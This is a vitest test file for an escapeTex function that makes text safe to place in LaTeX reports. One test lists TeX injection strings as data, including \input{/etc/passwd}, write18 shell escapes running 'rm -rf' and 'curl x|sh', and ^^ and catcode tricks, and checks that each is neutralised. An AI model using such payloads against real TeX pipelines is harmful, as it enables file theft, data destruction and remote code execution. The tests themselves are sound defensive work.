import { describe, expect, it } from 'vitest';
import { escapeTex } from '../../../src-main/core/reports/formats/tex';
import { TEX_REPORT_COMMANDS, texShape } from './tex-check';

// What LaTeX prints for escaped text, to check that escaping loses nothing.
const printed = (tex: string) =>
  tex
    .replace(/\\textbackslash\{\}/g, '\uE000')
    .replace(/\\textasciitilde\{\}/g, '~')
    .replace(/\\textasciicircum\{\}/g, '^')
    .replace(/\\textless\{\}/g, '<')
    .replace(/\\textgreater\{\}/g, '>')
    .replace(/\\textbar\{\}/g, '|')
    .replace(/\\([{}&%$#_])/g, '$1')
    .replace(/\uE000/g, '\\');

describe('escapeTex', () => {
  it('prints every special character literally', () => {
    expect(escapeTex('a & b % c $ d # e _ f { g } h ~ i ^ j \\ k < l > m | n')).toBe(
      'a \\& b \\% c \\$ d \\# e \\_ f \\{ g \\} h \\textasciitilde{} i \\textasciicircum{} j ' +
        '\\textbackslash{} k \\textless{} l \\textgreater{} m \\textbar{} n',
    );
    expect(escapeTex('synth_lead 64.8%')).toBe('synth\\_lead 64.8\\%');
    expect(escapeTex('plain words, 0.0008; (x) [y] "z"')).toBe('plain words, 0.0008; (x) [y] "z"');
  });

  it('leaves a hostile run name no command to run', () => {
    expect(escapeTex('\\input{/etc/passwd}')).toBe('\\textbackslash{}input\\{/etc/passwd\\}');
    expect(escapeTex('$\\write18{rm -rf}$')).toBe('\\$\\textbackslash{}write18\\{rm -rf\\}\\$');
    for (const hostile of [
      '\\input{/etc/passwd}',
      '$\\write18{rm -rf}$',
      '\\immediate\\write18{curl x|sh}',
      '^^5cinput{/etc/passwd}', // TeX reads ^^5c as a backslash
      '\\end{tabular}\\end{table}\\input{x}',
      '}}}\\def\\x{',
      '\\\\ \\catcode`\\@=0 @input',
    ]) {
      const shape = texShape(escapeTex(hostile));
      expect(shape.problems, hostile).toEqual([]);
      expect(
        [...shape.commands].filter((c) => !TEX_REPORT_COMMANDS.has(c)),
        hostile,
      ).toEqual([]);
      expect(escapeTex(hostile)).not.toMatch(/\^\^/);
      expect(printed(escapeTex(hostile))).toBe(hostile);
    }
  });

  it('makes line breaks one space and drops control characters, so a note cannot end a comment line', () => {
    expect(escapeTex('line one\n\\input{x}\r\n\tline two')).toBe(
      'line one \\textbackslash{}input\\{x\\} line two',
    );
    expect(escapeTex('a\u0000b\u001bc\u007fd')).toBe('abcd');
    expect(escapeTex('')).toBe('');
  });

  it('round-trips random text made of special characters', () => {
    const alphabet = 'ab \\{}&%$#_~^<>|\'"`@!0';
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let n = 0; n < 300; n++) {
      const text = Array.from({ length: 1 + (next() % 24) }, () => alphabet[next() % alphabet.length]).join(
        '',
      );
      const tex = escapeTex(text);
      const shape = texShape(tex);
      expect(shape.problems, text).toEqual([]);
      expect(
        [...shape.commands].filter((c) => !TEX_REPORT_COMMANDS.has(c)),
        text,
      ).toEqual([]);
      expect(printed(tex), text).toBe(text.replace(/\s+/g, ' '));
    }
  });
});
